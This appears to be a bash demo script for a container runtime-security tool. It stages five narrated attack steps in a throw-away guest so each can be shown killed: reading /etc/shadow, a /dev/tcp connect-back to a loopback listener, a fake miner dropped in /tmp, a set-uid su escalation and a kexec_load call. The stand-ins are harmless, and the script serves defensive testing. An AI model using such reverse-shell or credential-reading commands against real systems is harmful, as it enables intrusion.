#!/bin/bash
# A narrated attack on a throw-away machine: a container is broken into, reads secrets, calls home,
# drops a tool, raises its rights and tries to replace the kernel. Refuses to run outside a guest.
set -u

if [ -z "${WARDER_GUEST:-}" ]; then
	echo "attack.sh runs only in a guest: npm run demo" >&2
	exit 1
fi

work=/run/demo
container=web-7c9f
busybox=/run/guest/busybox
killed=0
allowed=0

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

# 137 is a shell's way of saying "killed by signal 9".
judge() {
	if [ "$1" -eq 137 ]; then
		killed=$((killed + 1))
		echo "   -> killed"
	else
		allowed=$((allowed + 1))
		echo "   -> went through (status $1)"
	fi
}

make_bundle() {
	mkdir -p "$work/rootfs/"{bin,etc,proc,dev,sys,tmp}
	cp "$busybox" "$work/rootfs/bin/busybox"
	for applet in sh id sleep; do ln -sf busybox "$work/rootfs/bin/$applet"; done
	# The real cat and what it needs to start, as an image of a distribution has it.
	for file in /usr/bin/cat $(ldd /usr/bin/cat | grep -o '/[^ ]*'); do
		mkdir -p "$work/rootfs$(dirname "$file")"
		cp -L "$file" "$work/rootfs$file"
	done
	echo 'root:$y$j9T$not.a.real.hash:19000:0:99999:7:::' >"$work/rootfs/etc/shadow"
	echo 'root:x:0:0::/:/bin/sh' >"$work/rootfs/etc/passwd"
	(cd "$work" && crun spec && node "$OLDPWD/scripts/demo/bundle.mjs" config.json)
}

start_container() {
	crun --cgroup-manager=cgroupfs run -d --bundle "$work" --pid-file "$work/pid" "$container" \
		>"$work/log" 2>&1 </dev/null || {
		cat "$work/log"
		exit 1
	}
	echo "   container $container runs, first process $(cat "$work/pid")"
}

in_container() { crun --cgroup-manager=cgroupfs exec "$container" "$@"; }

say "A web service runs in a container"
make_bundle
start_container

say "1. Somebody gets a shell in it and reads /etc/shadow"
in_container /bin/sh -c '/usr/bin/cat /etc/shadow'
judge $?

say "2. A shell calls home: bash -i to 127.0.0.1:4444 over /dev/tcp"
"$busybox" nc -l -p 4444 >"$work/received" &
listener=$!
sleep 0.5
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444 && echo "shell of $(id -un)" >&3'
judge $?
sleep 0.3
kill "$listener" 2>/dev/null
wait "$listener" 2>/dev/null
echo "   the attacker received: $(cat "$work/received")"

say "3. A tool is dropped into /tmp and started"
cp /bin/true /tmp/.xmrig && chmod +x /tmp/.xmrig
/tmp/.xmrig
judge $?

say "4. A user without rights starts a program that has them: su, which is set-uid root"
setpriv --reuid 65534 --regid 65534 --clear-groups su -c id root </dev/null 2>/dev/null
judge $?

say "5. Root tries to load another kernel: kexec_load from perl"
perl -e 'exit(syscall(246, 0, 0, 0, 0) == -1 ? $!+0 : 0)'
judge $?

crun --cgroup-manager=cgroupfs delete --force "$container"
say "Done: $killed of $((killed + allowed)) steps were killed"
